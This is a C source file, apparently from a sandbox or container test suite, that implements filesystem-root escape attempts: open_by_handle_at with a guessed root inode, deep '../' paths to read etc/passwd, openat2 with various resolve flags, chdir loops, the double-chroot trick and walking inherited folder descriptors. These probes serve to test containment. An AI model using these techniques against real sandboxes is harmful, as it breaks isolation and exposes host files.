// Ways out of the root folder that do not go by a name below it.

#include "hostile.h"

#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { deepest = 32 };

static enum outcome open_by_handle(const struct arguments *arguments, struct report *report) {
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } handle = {.head.handle_bytes = 128};
    int mount = 0;
    const char *path = word(arguments, 0, own_path());
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0) < 0) {
        say(report, "name_to_handle_at: %s; ", strerror(errno));
        // The root's inode on ext4 and xfs-like systems: guessed, as a program without a handle would.
        handle.head = (struct file_handle){.handle_bytes = 8, .handle_type = 1};
        handle.bytes[0] = 2;
    }
    const int folder = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (folder < 0) say(report, "open /: %s; ", strerror(errno));
    // The check of the privilege comes before the handle is looked at.
    return settle_permission(
        report, open_by_handle_at(folder < 0 ? AT_FDCWD : folder, &handle.head, O_RDONLY), "open_by_handle_at");
}

static void climb(char *path, size_t capacity, const char *rest) {
    path[0] = 0;
    for (int depth = 0; depth < deepest; depth++) strncat(path, "../", capacity - strlen(path) - 1);
    strncat(path, rest + (rest[0] == '/'), capacity - strlen(path) - 1);
}

// PATH as the host sees it: it must not be there from inside, however many times the way goes up.
static enum outcome open_above(const struct arguments *arguments, struct report *report) {
    char path[1024];
    climb(path, sizeof path, word(arguments, 0, "etc/passwd"));
    const int descriptor = open(path, O_RDONLY | O_CLOEXEC);
    if (descriptor < 0) return refused(report, "open");
    unsigned char bytes[32];
    const ssize_t count = read(descriptor, bytes, sizeof bytes);
    say(report, "opened %s: ", path + 3 * (deepest - 1));
    if (count > 0) say_hex(report, bytes, (size_t)count);
    return outcome_done;
}

static enum outcome open_above_by_openat2(const struct arguments *arguments, struct report *report) {
    char path[1024];
    climb(path, sizeof path, word(arguments, 0, "etc/passwd"));
    const unsigned long long flags[] = {0, RESOLVE_NO_XDEV, RESOLVE_NO_MAGICLINKS, RESOLVE_IN_ROOT, RESOLVE_CACHED};
    const int folder = open(".", O_PATH | O_CLOEXEC);
    for (size_t index = 0; index < sizeof flags / sizeof *flags; index++) {
        struct open_how how = {.flags = O_RDONLY | O_CLOEXEC, .resolve = flags[index]};
        if (syscall(SYS_openat2, folder, path, &how, sizeof how) < 0) continue;
        say(report, "opened with resolve flags %llu", flags[index]);
        return outcome_done;
    }
    return refused(report, "openat2");
}

static bool is_same(const struct stat *one, const struct stat *other) {
    return one->st_dev == other->st_dev && one->st_ino == other->st_ino;
}

static enum outcome compare_with_root(struct report *report) {
    struct stat root, here;
    if (stat("/", &root) < 0 || stat(".", &here) < 0) return refused(report, "stat");
    if (is_same(&root, &here)) {
        say(report, "the way up ends at the root");
        return outcome_contained;
    }
    say(report, "stands outside of the root, in inode %llu", (unsigned long long)here.st_ino);
    return outcome_done;
}

static enum outcome climb_out(const struct arguments *arguments, struct report *report) {
    (void)arguments;
    for (int depth = 0; depth < deepest; depth++)
        if (chdir("..") < 0) return refused(report, "chdir");
    return compare_with_root(report);
}

// The old trick: a second root below the first leaves the present folder outside of it.
static enum outcome chroot_out(const struct arguments *arguments, struct report *report) {
    (void)arguments;
    const int folder = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir("hostile-root", 0700);
    const int result = chroot("hostile-root") < 0 && chroot("/app") < 0 ? chroot(".") : 0;
    rmdir("hostile-root");
    if (result < 0) return refused(report, "chroot");
    say(report, "chroot succeeded; ");
    int depth = folder >= 0 && fchdir(folder) == 0 ? 0 : deepest;
    while (depth < deepest && chdir("..") == 0) depth++;
    compare_with_root(report);
    return outcome_done;
}

// A folder's descriptor that came from outside leads out by "..".
static enum outcome walk_from_descriptors(const struct arguments *arguments, struct report *report) {
    (void)arguments;
    int folders = 0;
    for (int descriptor = 0; descriptor < 4096; descriptor++) {
        struct stat found;
        if (fstat(descriptor, &found) < 0 || !S_ISDIR(found.st_mode)) continue;
        folders++;
        const int above = openat(descriptor, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        say(report, "%d is a folder%s ", descriptor, above < 0 ? "" : ", and what is above it opens");
    }
    if (folders > 0) return outcome_done;
    report->error = EBADF;
    return outcome_refused;
}

const struct attempt escape_attempts[] = {
    {.name = "open-by-handle", .run = open_by_handle},
    {.name = "open-above", .run = open_above},
    {.name = "openat2-above", .run = open_above_by_openat2},
    {.name = "chdir-up", .run = climb_out},
    {.name = "chroot", .run = chroot_out},
    {.name = "folder-descriptors", .run = walk_from_descriptors},
    {0},
};
